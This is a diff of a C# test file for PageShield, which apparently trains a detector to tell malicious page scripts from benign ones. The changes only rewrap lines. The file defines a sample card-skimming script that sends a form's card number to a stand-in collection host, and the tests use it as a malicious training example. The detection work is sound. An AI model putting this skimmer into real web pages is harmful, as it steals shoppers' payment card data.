@@ -4,7 +4,8 @@ namespace PageShield.Tests.Training;
 
 public sealed class TrainerTests
 {
-    private const string Library = "function total(items) { var sum = 0; for (var i = 0; i < items.length; i++) { sum += items[i].price * items[i].count; } return sum; }\n";
+    private const string Library =
+        "function total(items) { var sum = 0; for (var i = 0; i < items.length; i++) { sum += items[i].price * items[i].count; } return sum; }\n";
     private const string Payload = "document.forms[0].addEventListener('submit', function () { new Image().src = 'https://collect.example/?card=' + document.forms[0].elements.card.value; });";
 
     [Fact]
@@ -38,7 +39,8 @@ public sealed class TrainerTests
         folder.Write("npm/node_modules/javascript-obfuscator/package.json", "{}");
 
         var error = await Assert.ThrowsAsync<VariantsUnavailableException>(
-            () => VariantMaker.FindAsync(Path.Combine(folder.Path, "npm", "package-lock.json"), Path.Combine(folder.Path, "no-such-node"), TestContext.Current.CancellationToken));
+            () => VariantMaker.FindAsync(Path.Combine(folder.Path, "npm", "package-lock.json"), Path.Combine(folder.Path, "no-such-node"),
+                TestContext.Current.CancellationToken));
 
         Assert.Contains("Node.js 20 or newer", error.Message, StringComparison.Ordinal);
         Assert.Contains("npm ci", error.Message, StringComparison.Ordinal);
@@ -49,12 +51,14 @@ public sealed class TrainerTests
         var folder = new TemporaryFolder();
         folder.Write("malicious/skimmer.js", Payload);
         folder.Write("benign/cart.js", Library);
-        folder.Write("npm/package-lock.json", """{ "packages": { "": { "dependencies": { "totals": "1.0.0" }, "devDependencies": { "minifier": "1.0.0" } } } }""");
+        folder.Write("npm/package-lock.json",
+            """{ "packages": { "": { "dependencies": { "totals": "1.0.0" }, "devDependencies": { "minifier": "1.0.0" } } } }""");
         folder.Write("npm/node_modules/totals/index.js", string.Concat(Enumerable.Repeat(Library, 3)));
         folder.Write("npm/node_modules/minifier/index.js", string.Concat(Enumerable.Repeat(Library, 4)));
         return folder;
     }
 
     private static Task<IReadOnlyList<TrainingRow>> GatherAsync(TemporaryFolder folder) => Trainer.GatherAsync(
-        Path.Combine(folder.Path, "malicious"), Path.Combine(folder.Path, "benign"), Path.Combine(folder.Path, "npm", "package-lock.json"), null, 1, 1, TestContext.Current.CancellationToken);
+        Path.Combine(folder.Path, "malicious"), Path.Combine(folder.Path, "benign"), Path.Combine(folder.Path, "npm", "package-lock.json"), null, 1,
+        1, TestContext.Current.CancellationToken);
 }
